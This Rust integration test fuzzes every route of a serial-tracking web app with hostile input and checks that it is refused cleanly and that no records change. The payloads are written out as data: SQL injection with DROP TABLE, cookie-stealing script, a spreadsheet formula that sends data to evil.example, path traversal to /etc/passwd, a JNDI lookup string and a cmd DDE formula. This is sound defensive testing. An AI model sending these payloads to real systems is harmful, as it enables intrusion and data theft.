//! A corpus of hostile input sent to every route of the route table, as a user holding every
//! role would send it: overlong text, control characters, invalid UTF-8, look-alike letters,
//! SQL, HTML and script injection, spreadsheet formulas, path traversal in file names and
//! path segments, wrong content types, truncated multipart bodies and huge headers. Every
//! answer is below 500, every refusal is a 4xx that says why, and a refusal leaves every
//! saved record as it was; on both engines.

use crate::both_engines;
use crate::common::{Engine, TestApp};
use serialtrace::account::Role;

/// Every record a user, staff member, agent or officer keeps: what a refused request must
/// leave as it was (the logs of lookups, audits, mail and sessions are meant to grow).
const RECORDS: &[&str] = &[
    "manufacturers",
    "products",
    "product_gtins",
    "lots",
    "units",
    "component_links",
    "events",
    "users",
    "user_roles",
    "ownerships",
    "warranty_records",
    "claims",
    "repairs",
    "recalls",
    "recall_scope_rules",
    "recall_units",
    "recall_products",
    "theft_reports",
    "theft_report_notes",
    "serial_batches",
    "stock_audits",
    "attachments",
    "transfer_codes",
    "notices",
    "claim_events",
    "api_keys",
    "counterfeit_marks",
];

/// Counts every row written to the records from now on (inserted, changed or deleted), with
/// triggers of the test's own: a refused request must leave the count as it was.
async fn watch_records(app: &TestApp, engine: Engine) {
    let mut conn = app.db.writer().acquire().await.expect("a connection");
    let mut run = async |sql: String| {
        sqlx::query(&sql)
            .execute(&mut *conn)
            .await
            .unwrap_or_else(|e| panic!("{sql}: {e}"));
    };
    run("CREATE TABLE hostile_writes (n BIGINT NOT NULL)".into()).await;
    run("INSERT INTO hostile_writes (n) VALUES (0)".into()).await;
    if engine == Engine::Postgres {
        run("CREATE FUNCTION hostile_count() RETURNS trigger AS $$ BEGIN UPDATE hostile_writes SET n = n + 1; RETURN NULL; END $$ LANGUAGE plpgsql".into()).await;
    }
    for table in RECORDS {
        match engine {
            Engine::Postgres => {
                run(format!(
                    "CREATE TRIGGER hostile_{table} AFTER INSERT OR UPDATE OR DELETE ON {table} FOR EACH ROW EXECUTE FUNCTION hostile_count()"
                ))
                .await
            }
            Engine::Sqlite => {
                for op in ["INSERT", "UPDATE", "DELETE"] {
                    run(format!(
                        "CREATE TRIGGER hostile_{table}_{op} AFTER {op} ON {table} BEGIN UPDATE hostile_writes SET n = n + 1; END"
                    ))
                    .await;
                }
            }
        }
    }
}

/// Rows written to the records since [`watch_records`].
async fn writes(app: &TestApp) -> i64 {
    sqlx::query_scalar("SELECT n FROM hostile_writes")
        .fetch_one(app.db.reader())
        .await
        .expect("the count")
}

/// The hostile values every field gets in turn.
fn hostile_values() -> Vec<String> {
    vec![
        // Longer than any field takes; every field at once stays under the 64 KiB body limit
        // (the limit itself is tested on its own).
        "A".repeat(600),
        "\u{0}\u{7}\u{1b}[31m\r\nline two\u{7f}".to_owned(),
        // A Cyrillic Н and a zero-width space: a serial that only looks right.
        "НL000000018\u{200b}".to_owned(),
        "' OR '1'='1' -- ; DROP TABLE units; --".to_owned(),
        "\"><script>alert(document.cookie)</script><img src=x onerror=alert(1)>".to_owned(),
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Details\")".to_owned(),
        "../../../../etc/passwd\\..\\..\\windows\\win.ini".to_owned(),
        "%00%ff%fe%2e%2e%2f{{7*7}}${jndi:ldap://x}".to_owned(),
        "\u{202e}gnp.exe\u{fe0f}🦀".repeat(10),
        "-1e309".to_owned(),
    ]
}

/// Form fields the site's forms use: each request sends all of them.
const FIELDS: &[&str] = &[
    "serial",
    "gtin",
    "email",
    "password",
    "confirm",
    "current",
    "next",
    "token",
    "model",
    "name",
    "category",
    "gtins",
    "warranty_months",
    "warranty_starts",
    "transferable",
    "format_kind",
    "prefix",
    "body_len",
    "alphabet",
    "check",
    "order",
    "tac",
    "number",
    "title",
    "hazard",
    "description",
    "remedy",
    "remedy_available",
    "instructions",
    "severity",
    "starts_on",
    "rule_kind",
    "rule_model",
    "serials",
    "range_prefix",
    "range_from",
    "range_to",
    "lot_code",
    "window_from",
    "window_to",
    "message",
    "reason",
    "recovered_place",
    "place",
    "agency",
    "case_number",
    "report_kind",
    "occurred_on",
    "location",
    "scanned",
    "code",
    "role",
    "manufacturer",
    "status",
    "note",
    "remedies",
    "counterfeit_serial",
    "counterfeit_note",
    "count",
    "lot",
    "id",
    "page",
    "days",
    "q",
    "purchased_on",
    "retailer",
    "kind",
    "text",
    "file",
    "rule_id",
    "scope",
    "label",
    "statement",
    "reply",
    "dispute",
    "decision",
    "report",
    "withdraw_reason",
];

/// The actions the site's forms name; each hostile value goes with one of them.
const ACTIONS: &[&str] = &[
    "create",
    "update",
    "draft",
    "add_rule",
    "remove_rule",
    "publish",
    "close",
    "remedies",
    "mark",
    "unmark",
    "report",
    "withdraw",
    "recover",
    "contact",
    "transfer",
    "redeem",
    "grant",
    "revoke",
    "verify",
    "note",
    "retire",
    "generate",
    "lot",
    "look",
    "withdraw_report",
];

/// A route's pattern with each parameter replaced.
fn concrete(pattern: &str, with: &str) -> String {
    pattern
        .split('/')
        .map(|segment| match segment.chars().next() {
            Some('{') if segment.starts_with("{*") => "01/09506000134352/21/X1".to_owned(),
            Some('{' | ':') => with.to_owned(),
            _ => segment.to_owned(),
        })
        .collect::<Vec<_>>()
        .join("/")
}

/// Routes whose success is to end the session the corpus is sent with.
fn ends_the_session(path: &str) -> bool {
    path.contains("signout") || path.contains("sign-out") || path.ends_with("/password")
}

async fn hostile_input_to_every_route_gets_a_clear_4xx_and_changes_nothing(engine: Engine) {
    let app = TestApp::spawn(engine).await;
    // One user with every role, so each route's own checks see the input.
    let user = app
        .user(
            "all@hostile.test",
            Some(Role::Staff),
            Some("hallmark"),
            None,
        )
        .await;
    for (role, agency) in [
        ("agent", None),
        ("police", Some("Harbour Police")),
        ("admin", None),
    ] {
        sqlx::query(
            "INSERT INTO user_roles (user_id, role, agency, granted_at) VALUES ($1, $2, $3, '2026-12-01T00:00:00Z')",
        )
        .bind(user)
        .bind(role)
        .bind(agency)
        .execute(app.db.writer())
        .await
        .expect("a grant");
    }
    let browser = app.signed_in("all@hostile.test").await;
    let values = hostile_values();
    let endpoints = serialtrace_server::startup::endpoints();
    watch_records(&app, engine).await;
    let mut before = writes(&app).await;
    let mut wrong = Vec::new();
    let mut statuses = std::collections::BTreeMap::<u16, usize>::new();
    let mut sent = 0;
    // Judges one answer: never 5xx; a refusal names its reason and changed nothing.
    let mut judge = async |what: String, response: reqwest::Response, before: &mut i64| {
        let status = response.status().as_u16();
        *statuses.entry(status).or_default() += 1;
        let body = response.text().await.unwrap_or_default();
        let after = writes(&app).await;
        if status >= 500 {
            wrong.push(format!("{what}: {status}"));
        } else if (400..500).contains(&status) {
            if body.trim().is_empty() && status != 405 {
                wrong.push(format!("{what}: {status} without a reason"));
            }
            if after != *before {
                wrong.push(format!(
                    "{what}: {status}, yet {} rows written",
                    after - *before
                ));
            }
        }
        *before = after;
    };
    for (method, pattern) in &endpoints {
        if ends_the_session(pattern) {
            continue;
        }
        let path = concrete(pattern, "1");
        for (i, value) in values.iter().enumerate() {
            let action = ACTIONS[(i + sent) % ACTIONS.len()];
            let response = if method == "GET" {
                browser
                    .get(format!("{}{path}", app.base))
                    .query(&[
                        ("serial", value.as_str()),
                        ("q", value.as_str()),
                        ("agency", value.as_str()),
                    ])
                    .header("accept", "text/html")
                    .send()
                    .await
            } else if path.starts_with("/api/") {
                let body = serde_json::json!({
                    "serial": value, "serials": [value, value], "updates": [{"serial": value, "status": value}],
                    "csv": value, "text": value,
                });
                browser
                    .post(format!("{}{path}", app.base))
                    .header("origin", &app.base)
                    .json(&body)
                    .send()
                    .await
            } else {
                let mut form: Vec<(&str, &str)> =
                    FIELDS.iter().map(|f| (*f, value.as_str())).collect();
                form.push(("action", action));
                browser
                    .post(format!("{}{path}", app.base))
                    .header("origin", &app.base)
                    .header("accept", "text/html")
                    .form(&form)
                    .send()
                    .await
            };
            sent += 1;
            let response = response.unwrap_or_else(|e| panic!("{method} {path}: {e}"));
            judge(
                format!("{method} {path} ({action}, value {i})"),
                response,
                &mut before,
            )
            .await;
        }
        // A hostile path segment instead of an id or a number.
        if pattern.contains('{') {
            for segment in [
                "%27%20OR%201%3D1%20--",
                "..%2F..%2Fetc%2Fpasswd",
                "%FF%FE",
                "99999999999999999999999",
            ] {
                let path = concrete(pattern, segment);
                let request = match method.as_str() {
                    "GET" => browser.get(format!("{}{path}", app.base)),
                    _ => browser
                        .post(format!("{}{path}", app.base))
                        .header("origin", &app.base)
                        .form(&[("action", "look")]),
                };
                let response = request
                    .header("accept", "text/html")
                    .send()
                    .await
                    .expect("an answer");
                sent += 1;
                judge(format!("{method} {path}"), response, &mut before).await;
            }
        }
        if method == "POST" {
            // Bytes that are no UTF-8, JSON where a form is expected (and the reverse), a
            // multipart body cut off in its middle, a file named to climb out of its folder.
            let raw = [
                ("application/x-www-form-urlencoded", b"serial=%FF%FE%C0&action=%C0%AF&email=\xff\xfe".to_vec()),
                ("application/json", b"{\"serial\": \"\xff\xfe\", \"action\": [".to_vec()),
                ("text/plain", b"serial=HL000000018".to_vec()),
                (
                    "multipart/form-data; boundary=XyZ",
                    b"--XyZ\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"../../../etc/passwd\"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n\0\0".to_vec(),
                ),
                (
                    "multipart/form-data; boundary=XyZ",
                    b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"..\\\\..\\\\win.ini\"\r\n\r\n=cmd|' /C calc'!A0\r\n--XyZ--\r\n".to_vec(),
                ),
            ];
            for (kind, body) in raw {
                let response = browser
                    .post(format!("{}{path}", app.base))
                    .header("origin", &app.base)
                    .header("accept", "text/html")
                    .header("content-type", kind)
                    .body(body)
                    .send()
                    .await
                    .unwrap_or_else(|e| panic!("{method} {path}: {e}"));
                sent += 1;
                judge(format!("{method} {path} ({kind})"), response, &mut before).await;
            }
        }
    }
    // A header far larger than any browser sends: refused whole.
    let response = browser
        .get(format!("{}/lookup?serial=HL000000018", app.base))
        .header("x-padding", "A".repeat(64 * 1024))
        .send()
        .await;
    match response {
        Ok(response) => {
            let status = response.status().as_u16();
            assert!(
                (400..500).contains(&status) || status == 200,
                "a huge header: {status}"
            );
        }
        // The server may close the connection on a header it will not read.
        Err(error) => assert!(error.is_request() || error.is_connect(), "{error}"),
    }
    assert_eq!(app.get("/healthz").await.status().as_u16(), 200);
    assert!(sent > 1_000, "{sent} requests");
    eprintln!("hostile corpus: {sent} requests, answers by status {statuses:?}");
    assert!(
        wrong.is_empty(),
        "{} of {sent} answers wrong:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}
both_engines!(hostile_input_to_every_route_gets_a_clear_4xx_and_changes_nothing);
